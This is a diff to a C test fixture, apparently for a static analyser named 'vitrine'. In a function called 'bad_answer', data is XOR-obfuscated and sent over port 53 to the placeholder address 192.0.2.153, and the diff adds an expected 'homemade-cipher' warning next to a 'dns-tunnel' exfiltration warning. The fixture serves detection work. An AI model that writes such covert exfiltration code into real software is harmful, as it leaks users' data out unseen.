@@ -30,7 +30,8 @@ int bad_answer(void) {
     for (size_t i = 0; i < got; i++)
         packet.body[i] = line[i] ^ 0x6d;
     int out = port_53(&peer, "192.0.2.153");
-    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
+    // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
+    // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
     sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
     if (stream)
         pclose(stream);
